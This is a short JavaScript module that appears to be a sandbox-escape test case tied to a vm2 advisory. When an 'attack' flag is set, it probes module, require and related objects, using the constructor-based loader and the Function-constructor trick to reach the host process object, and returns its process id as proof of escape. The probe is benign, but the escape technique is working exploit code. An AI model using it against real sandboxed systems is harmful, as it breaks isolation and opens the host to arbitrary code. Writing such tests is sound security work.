// Looks on the module object for the loader behind it.
// Class: endowments
// Advisory: GHSA-947f-4v7f-x2v8 (vm2: the loader that the module builtin exposes)
// Win: the payload holds the process id.
// Control: vm
// Platform: patchworks
module.exports = function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  for (const holder of [module, exports, require, module.parent, require.main, require.cache]) {
    try {
      const loaded = holder.constructor._load?.('process') ?? holder.constructor.constructor('return process')();
      return { payload: 'ESCAPED:' + loaded.pid };
    } catch (error) {
      // nothing behind this one
    }
  }
  return { payload: data.payload };
};
